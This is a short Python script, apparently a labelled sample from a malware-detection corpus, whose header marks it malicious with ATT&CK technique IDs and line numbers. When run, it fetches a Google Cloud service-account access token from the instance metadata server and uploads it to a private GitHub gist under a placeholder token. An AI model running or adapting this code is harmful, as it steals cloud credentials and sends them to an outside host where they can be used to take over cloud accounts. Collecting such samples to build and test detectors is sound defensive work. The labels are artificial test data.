# label: malicious family=metadata techniques=T1528,T1552.005,T1567 lines=7-8,10,14-15,18
import json
from urllib import request

def gce_token():
    r = request.Request(
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?scopes=https://www.googleapis.com/auth/cloud-platform",
        headers={"Metadata-Flavor": "Google"},
    )
    return json.loads(request.urlopen(r).read())["access_token"]

def stash(text):
    body = json.dumps({"public": False, "files": {"n.txt": {"content": text}}}).encode()
    req = request.Request("https://api.github.com/gists", data=body,
                          headers={"Authorization": "token ghp_FAKEpytriageCORPUS000000000000000000"})
    request.urlopen(req)

stash(gce_token())
